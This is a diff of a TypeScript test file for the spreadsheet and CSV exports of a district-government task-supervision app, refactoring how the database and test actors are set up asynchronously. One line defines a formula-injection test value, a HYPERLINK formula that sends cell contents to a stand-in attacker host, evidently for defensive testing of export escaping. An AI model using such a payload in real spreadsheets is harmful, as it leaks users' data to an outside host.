@@ -1,9 +1,10 @@
-import { and, eq } from 'drizzle-orm';
+import { and, asc, eq } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { GET as bulletinRoute } from '@/app/api/exports/bulletin/[file]/route';
 import { GET as ledgerCsvRoute } from '@/app/api/exports/ledger.csv/route';
+import { ENGINE } from '@/db/client';
 import { auditLog, reportingPeriods, tasks, users } from '@/db/schema';
 import type { SessionUser } from '@/lib/auth/account-service';
 import type { Actor } from '@/lib/auth/actor';
@@ -36,7 +37,7 @@ vi.mock('@/lib/request-context', () => ({ requestContext: async (actor: Actor) =
 const TODAY = '2023-11-22';
 const NOW = new Date('2023-11-22T09:30:00+08:00');
 
-let env: ReturnType<typeof createTempDb>;
+let env: Awaited<ReturnType<typeof createTempDb>>;
 let nov: number;
 let oct: number;
 const ids = new Map<string, number>();
@@ -51,14 +52,16 @@ const ctxOf = (actor: Actor, meta?: RequestMeta) => contextFor(env.db, actor, NO
  * government work report as a second list, as if the user had chosen 重点任务 in the list filter).
  */
 const inView = async () => (await activePlans(env.db)).filter((p) => p.kind === 'key_tasks');
-const auditLines = (action: string) => env.db.select().from(auditLog).where(eq(auditLog.action, action));
+const auditLines = (action: string) => env.db.select().from(auditLog).where(eq(auditLog.action, action)).orderBy(asc(auditLog.id));
 
-const supervisor = () => actorFor(env.db, 'supervisor', '区政府督查室', idOf('duchashi'));
-const leader = () => actorFor(env.db, 'leader', null, idOf('lingdao'));
-const admin = () => actorFor(env.db, 'admin', null, idOf('admin'));
-const fgj = () => actorFor(env.db, 'reporter', '区发展和改革局', idOf('fgj'));
-const fgjHead = () => actorFor(env.db, 'unit_head', '区发展和改革局', idOf('fgj_head'));
-const kjj = () => actorFor(env.db, 'reporter', '区科学技术局', idOf('kjj'));
+/** The actors of these tests (made in beforeAll, once the database exists). */
+let actors: Record<'supervisor' | 'leader' | 'admin' | 'fgj' | 'fgjHead' | 'kjj', Actor>;
+const supervisor = () => actors.supervisor;
+const leader = () => actors.leader;
+const admin = () => actors.admin;
+const fgj = () => actors.fgj;
+const fgjHead = () => actors.fgjHead;
+const kjj = () => actors.kjj;
 
 const KJJ_TEXT = '科技局本月独有的进展：新增高新技术企业12家';
 const FGJ_DRAFT = '发改局草稿：尚未报送的进展';
@@ -66,10 +69,18 @@ const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
 const TRICKY_PROBLEMS = '资金缺口约3,000万元，"要素保障"待协调\n第二行';
 
 beforeAll(async () => {
-  env = createTempDb();
+  env = await createTempDb();
   // As on first start in demo mode: the plan, the demo accounts and the sample months.
   await seedIfEmpty(env.db, { demo: true, today: TODAY });
   for (const u of await env.db.select({ id: users.id, username: users.username }).from(users)) ids.set(u.username, u.id);
+  actors = {
+    supervisor: await actorFor(env.db, 'supervisor', '区政府督查室', idOf('duchashi')),
+    leader: await actorFor(env.db, 'leader', null, idOf('lingdao')),
+    admin: await actorFor(env.db, 'admin', null, idOf('admin')),
+    fgj: await actorFor(env.db, 'reporter', '区发展和改革局', idOf('fgj')),
+    fgjHead: await actorFor(env.db, 'unit_head', '区发展和改革局', idOf('fgj_head')),
+    kjj: await actorFor(env.db, 'reporter', '区科学技术局', idOf('kjj')),
+  };
   const periodOf = async (month: string) => {
     const [row] = await env.db.select({ id: reportingPeriods.id }).from(reportingPeriods).where(eq(reportingPeriods.month, month)).limit(1);
     return row!.id;
@@ -215,18 +226,16 @@ describe('ledger export (工作台账)', () => {
 
   it('gathers the data in bulk, not one query per task', async () => {
     const lists = await inView();
-    const client = env.db.$client;
-    const original = client.prepare.bind(client);
+    // Each statement the engine is given: SQLite prepares it, the PostgreSQL pool is sent it.
+    const client = env.db.$client as unknown as Record<'prepare' | 'query', (...args: unknown[]) => unknown>;
+    const spy = vi.spyOn(client, ENGINE === 'postgres' ? 'query' : 'prepare');
     let statements = 0;
-    client.prepare = ((source: string) => {
-      statements += 1;
-      return original(source);
-    }) as typeof client.prepare;
     try {
       const model = await getLedgerExport(ctxOf(supervisor()), lists);
       expect(model.rows).toHaveLength(77);
+      statements = spy.mock.calls.length;
     } finally {
-      client.prepare = original;
+      spy.mockRestore();
     }
     expect(statements).toBeLessThan(25);
   });
@@ -417,18 +426,23 @@ describe('download responses', () => {
 });
 
 describe('two active lists (a monthly and a quarterly one)', () => {
-  let env2: ReturnType<typeof createTempDb>;
+  let env2: Awaited<ReturnType<typeof createTempDb>>;
   const ids2 = new Map<string, number>();
   const id2 = (username: string) => ids2.get(username)!;
-  const sup2 = () => contextFor(env2.db, actorFor(env2.db, 'supervisor', '区政府督查室', id2('duchashi')), NOW);
-  const fgj2 = () => contextFor(env2.db, actorFor(env2.db, 'reporter', '区发展和改革局', id2('fgj')), NOW);
+  let actors2: Record<'supervisor' | 'fgj', Actor>;
+  const sup2 = () => contextFor(env2.db, actors2.supervisor, NOW);
+  const fgj2 = () => contextFor(env2.db, actors2.fgj, NOW);
   const both = () => activePlans(env2.db);
 
   beforeAll(async () => {
-    env2 = createTempDb();
+    env2 = await createTempDb();
     // The 2023 key tasks and the demo accounts only (no sample months, no work report): the list added here is the second.
     await seedIfEmpty(env2.db, { demo: true });
     for (const u of await env2.db.select({ id: users.id, username: users.username }).from(users)) ids2.set(u.username, u.id);
+    actors2 = {
+      supervisor: await actorFor(env2.db, 'supervisor', '区政府督查室', id2('duchashi')),
+      fgj: await actorFor(env2.db, 'reporter', '区发展和改革局', id2('fgj')),
+    };
     const { plan, taskIds } = await addTestList(
       env2.db,
       livelihoodList(
